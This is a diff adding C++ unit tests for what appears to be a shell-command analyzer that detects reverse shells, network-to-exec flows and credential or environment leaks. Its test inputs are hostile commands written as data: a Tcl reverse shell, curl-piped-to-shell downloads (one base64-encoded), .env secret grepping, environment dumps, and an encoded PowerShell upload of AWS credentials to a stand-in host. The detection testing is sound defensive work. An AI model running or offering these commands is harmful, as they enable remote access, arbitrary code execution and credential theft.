@@ -179,3 +179,48 @@ TEST_CASE("hex and octal escapes in literals, and hex payloads run by exec, are 
                  "network", "exec"));
   CHECK_FALSE(has_flow_to(analyze("perl -e 'print \"a\\x41\\tb\\n\"'"), "exec"));
 }
+
+TEST_CASE("Tcl sockets and exec, Julia command literals, Perl's decode_base64 handed to system") {
+  CHECK(has_marker(analyze("echo 'set s [socket 203.0.113.2 4444]; while 1 { gets $s c; puts $s [exec sh -c $c] }' | tclsh"),
+                   "reverse_shell"));
+  CHECK(has_flow(analyze("echo 'exec curl -s https://x.example.com/i.sh | sh' | tclsh"), "network", "exec"));
+  CHECK_FALSE(has_marker(analyze("echo 'puts [exec ls -la]' | tclsh"), "reverse_shell"));
+  CHECK(has_flow(analyze("julia -e 'run(pipeline(`curl -s https://x.example.com/i.sh`, `sh`))'"), "network", "exec"));
+  CHECK_FALSE(has_flow_to(analyze("julia -e 'run(`ls -la`)'"), "exec"));
+  // base64 of "curl -s https://x.example.com/u.sh | bash"
+  CHECK(has_flow(analyze("perl -MMIME::Base64 -e 'system(decode_base64(\"Y3VybCAtcyBodHRwczovL3guZXhhbXBsZS5jb20vdS5zaCB8IGJhc2g=\"))'"),
+                 "network", "exec"));
+}
+
+TEST_CASE("line loops print the files they read; Ruby's ENV walked whole and PowerShell's env: drive print the environment") {
+  CHECK(has_flow(analyze("perl -ne 'print if /KEY|TOKEN|SECRET/' .env"), "credential_file", "output"));
+  CHECK_FALSE(has_flow_to(analyze("perl -ne 'print $1 if /version=(\\S+)/' .env"), "output"));
+  CHECK_FALSE(secret_leaves(analyze("perl -pe 's/foo/bar/' config.txt")));
+  CHECK(has_flow(analyze("ruby -e 'ENV.sort.each { |k, v| puts \"#{k}=#{v}\" }'"), "env_dump", "output"));
+  CHECK_FALSE(has_flow_to(analyze("ruby -e 'puts ENV.keys'"), "output"));
+  CHECK(has_flow(analyze("pwsh -NoProfile -c \"Get-ChildItem env: | Format-Table -AutoSize\""), "env_dump", "output"));
+  CHECK_FALSE(has_flow_to(analyze("pwsh -c \"Get-ChildItem env: | Out-Null\""), "output"));
+}
+
+TEST_CASE("PowerShell's Get-Content of a credential file sent by WebClient is a credential leaving") {
+  // UTF-16LE base64 of: $c=New-Object Net.WebClient;$c.UploadString('https://x.example.com/p',(Get-Content $HOME/.aws/credentials -Raw))
+  std::string script = "$c=New-Object Net.WebClient;$c.UploadString('https://x.example.com/p',(Get-Content $HOME/.aws/credentials -Raw))";
+  std::string utf16;
+  for (char c : script) utf16 += std::string{c, '\0'};
+  auto base64 = [](const std::string& in) {
+    static const char* kAlphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    std::string out;
+    for (size_t i = 0; i < in.size(); i += 3) {
+      uint32_t n = static_cast<uint8_t>(in[i]) << 16;
+      if (i + 1 < in.size()) n |= static_cast<uint8_t>(in[i + 1]) << 8;
+      if (i + 2 < in.size()) n |= static_cast<uint8_t>(in[i + 2]);
+      out += kAlphabet[(n >> 18) & 63];
+      out += kAlphabet[(n >> 12) & 63];
+      out += i + 1 < in.size() ? kAlphabet[(n >> 6) & 63] : '=';
+      out += i + 2 < in.size() ? kAlphabet[n & 63] : '=';
+    }
+    return out;
+  };
+  CHECK(has_flow(analyze("pwsh -NoProfile -EncodedCommand " + base64(utf16)), "credential_file", "network"));
+  CHECK_FALSE(secret_leaves(analyze("pwsh -c \"Get-Content ./README.md | Select-Object -First 5\"")));
+}
